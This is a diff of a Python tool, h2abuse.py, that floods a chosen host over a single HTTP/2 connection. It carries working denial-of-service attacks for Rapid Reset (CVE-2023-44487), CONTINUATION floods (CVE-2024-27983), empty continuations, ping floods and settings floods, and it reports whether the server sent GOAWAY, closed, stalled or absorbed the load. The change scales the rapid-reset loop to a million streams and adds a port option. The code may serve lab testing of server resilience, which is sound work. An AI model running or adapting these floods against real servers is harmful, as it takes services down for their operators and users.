@@ -1,7 +1,9 @@
-"""python3 h2abuse.py HOST ATTACK: abuses one HTTP/2 connection; prints what came of it.
+"""python3 h2abuse.py HOST ATTACK [PORT]: floods one HTTP/2 connection; prints what came of it.
 
-closed: the server ended the connection; reset: it ended the stream; stuck: it stopped reading; still open: none of it.
+GOAWAY with its error code: the server ended the connection and said why; closed: it ended it without a word; stuck: it
+has stopped reading, and goes on so; finished: it took all of it.
 """
+import select
 import socket
 import ssl
 import struct
@@ -11,48 +13,117 @@ import time
 import h2.config
 import h2.connection
 import h2.errors
-import h2.events
 
-PATIENCE = 20
-
-
-def connect(host):
-    context = ssl.create_default_context()
-    context.check_hostname = False
-    context.verify_mode = ssl.CERT_NONE
-    context.set_alpn_protocols(["h2"])
-    plain = socket.create_connection((host, 443), timeout=PATIENCE)
-    stream = context.wrap_socket(plain, server_hostname="lab.example.com")
-    assert stream.selected_alpn_protocol() == "h2"
-    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
-    connection.initiate_connection()
-    stream.sendall(connection.data_to_send())
-    return stream, connection
+PATIENCE = 3
+GOAWAY = 7
 
 
-def headers(path="/"):
-    return [(":method", "GET"), (":scheme", "https"), (":authority", "lab.example.com"), (":path", path)]
+class Ended(Exception):
+    """The server has ended it."""
+
+
+class Abused:
+    """One connection, with both of its directions in one hand: a word of the server is not lost when it hangs up."""
+
+    def __init__(self, host, port):
+        context = ssl.create_default_context()
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        context.set_alpn_protocols(["h2"])
+        self._incoming, self._outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+        self._tls = context.wrap_bio(self._incoming, self._outgoing, server_hostname="lab.example.com")
+        self._plain = socket.create_connection((host, port), timeout=20)
+        self._unsent = self._unread = b""
+        self._shake_hands()
+        assert self._tls.selected_alpn_protocol() == "h2"
+        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        connection.initiate_connection()
+        self._encoder = connection.encoder
+        self.send(connection.data_to_send())
+
+    def block(self, path="/"):
+        """The headers of a request."""
+        return self._encoder.encode(
+            [(":method", "GET"), (":scheme", "https"), (":authority", "lab.example.com"), (":path", path)])
+
+    def send(self, data, hears=True):
+        """Sends all of it, and listens meanwhile if it is to."""
+        self._tls.write(data)
+        self._unsent += self._outgoing.read()
+        while self._unsent:
+            readable, writable, _ = select.select([self._plain] if hears else [], [self._plain], [], PATIENCE)
+            if readable:
+                self._hear()
+            elif writable:
+                try:
+                    self._unsent = self._unsent[self._plain.send(self._unsent):]
+                except ConnectionError:
+                    self.hear_out(PATIENCE)
+            else:
+                raise Ended("stuck")
+
+    def hear_out(self, patience):
+        """Listens until the end, or so long."""
+        until = time.monotonic() + patience
+        while (left := until - time.monotonic()) > 0 and select.select([self._plain], [], [], left)[0]:
+            self._hear()
+
+    def _shake_hands(self):
+        while True:
+            try:
+                self._tls.do_handshake()
+                break
+            except ssl.SSLWantReadError:
+                self._plain.sendall(self._outgoing.read())
+                self._incoming.write(self._plain.recv(65536))
+        self._plain.sendall(self._outgoing.read())
+        self._plain.setblocking(False)
+
+    def _hear(self):
+        try:
+            data = self._plain.recv(65536)
+        except ConnectionError:
+            data = b""
+        self._incoming.write(data)
+        try:
+            while data:
+                self._unread += self._tls.read(65536)
+        except ssl.SSLWantReadError:
+            pass
+        except ssl.SSLError:
+            data = b""
+        self._read_frames()
+        if not data:
+            raise Ended("closed")
+
+    def _read_frames(self):
+        while len(self._unread) >= 9 and len(self._unread) >= 9 + (length := int.from_bytes(self._unread[:3], "big")):
+            kind, payload = self._unread[3], self._unread[9:9 + length]
+            self._unread = self._unread[9 + length:]
+            if kind == GOAWAY:
+                raise Ended(f"GOAWAY {h2.errors.ErrorCodes(struct.unpack('>II', payload[:8])[1]).name}")
 
 
 def frame(kind, flags, stream_id, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload
 
 
-def rapid_reset(stream, connection):
+def rapid_reset(connection):
     """CVE-2023-44487: open a stream and reset it at once, again and again."""
-    block = connection.encoder.encode(headers())
-    for number in range(1, 200_000, 2):
-        stream.sendall(frame(1, 0x5, number, block) + frame(3, 0, number, struct.pack(">I", 8)))
-        block = connection.encoder.encode(headers())
+    first = connection.block()
+    again = connection.block()
+    for number in range(1, 1_000_000, 200):
+        connection.send(b"".join(
+            frame(1, 0x5, stream, first if stream == 1 else again) + frame(3, 0, stream, struct.pack(">I", 8))
+            for stream in range(number, number + 200, 2)))
 
 
-def continuation_flood(stream, connection):
+def continuation_flood(connection):
     """CVE-2024-27983 and its like: headers that never end."""
-    stream.sendall(frame(1, 0, 1, connection.encoder.encode(headers())))
+    connection.send(frame(1, 0, 1, connection.block()))
     for number in range(100_000):
         name, value = b"x-%d" % number, b"a" * 4000
-        literal = b"\x00" + bytes([len(name)]) + name + b"\x7f" + _rest(len(value) - 127) + value
-        stream.sendall(frame(9, 0, 1, literal))
+        connection.send(frame(9, 0, 1, b"\x00" + bytes([len(name)]) + name + b"\x7f" + _rest(len(value) - 127) + value))
 
 
 def _rest(number):
@@ -64,75 +135,33 @@ def _rest(number):
     return bytes(out)
 
 
-def empty_continuations(stream, connection):
+def empty_continuations(connection):
     """The same without a byte of headers."""
-    stream.sendall(frame(1, 0, 1, connection.encoder.encode(headers())))
+    connection.send(frame(1, 0, 1, connection.block()))
     for _ in range(1_000_000):
-        stream.sendall(frame(9, 0, 1) * 100)
+        connection.send(frame(9, 0, 1) * 100)
 
 
-def ping_flood(stream, connection):
+def ping_flood(connection):
     """Pings whose answers are never read."""
-    stream.settimeout(3)
     for _ in range(1_000_000):
-        stream.sendall(frame(6, 0, 0, b"12345678") * 100)
+        connection.send(frame(6, 0, 0, b"12345678") * 100, hears=False)
 
 
-def settings_flood(stream, connection):
+def settings_flood(connection):
     """Settings whose acknowledgements are never read."""
-    stream.settimeout(3)
     for _ in range(1_000_000):
-        stream.sendall(frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 100)
+        connection.send(frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 100, hears=False)
 
 
-def data_on_stream_0(stream, connection):
-    stream.sendall(frame(0, 0, 0, b"data"))
-
-
-def headers_with_connection(stream, connection):
-    block = connection.encoder.encode(headers() + [("connection", "x-a"), ("x-a", "1")])
-    stream.sendall(frame(1, 0x5, 1, block))
-
-
-def two_lengths(stream, connection):
-    block = connection.encoder.encode(headers() + [("content-length", "0"), ("content-length", "3")])
-    stream.sendall(frame(1, 0x5, 1, block))
-
-
-def window_overflow(stream, connection):
-    stream.sendall(frame(8, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)
-
-
-def attack(host, name):
-    stream, connection = connect(host)
-    ended = "still open"
+def attack(host, name, port):
     try:
-        globals()[name](stream, connection)
-        stream.settimeout(PATIENCE)
-        ended = listen(stream, connection)
-    except (ConnectionError, ssl.SSLError, socket.timeout, TimeoutError) as error:
-        ended = "stuck" if isinstance(error, (socket.timeout, TimeoutError)) else "closed"
-    stream.close()
-    return ended
+        connection = Abused(host, port)
+        globals()[name](connection)
+        connection.hear_out(PATIENCE)
+        return "finished"
+    except Ended as end:
+        return str(end)
 
 
-def listen(stream, connection):
-    began = time.monotonic()
-    while time.monotonic() - began < PATIENCE:
-        data = stream.recv(65536)
-        if not data:
-            return "closed"
-        try:
-            events = connection.receive_data(data)
-        except Exception:  # pylint: disable=broad-except
-            # Answers to streams that h2 knows nothing of.
-            continue
-        for event in events:
-            if isinstance(event, h2.events.ConnectionTerminated):
-                return "closed"
-            if isinstance(event, h2.events.StreamReset):
-                return "reset"
-    return "still open"
-
-
-print(attack(sys.argv[1], sys.argv[2]))
+print(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 443))
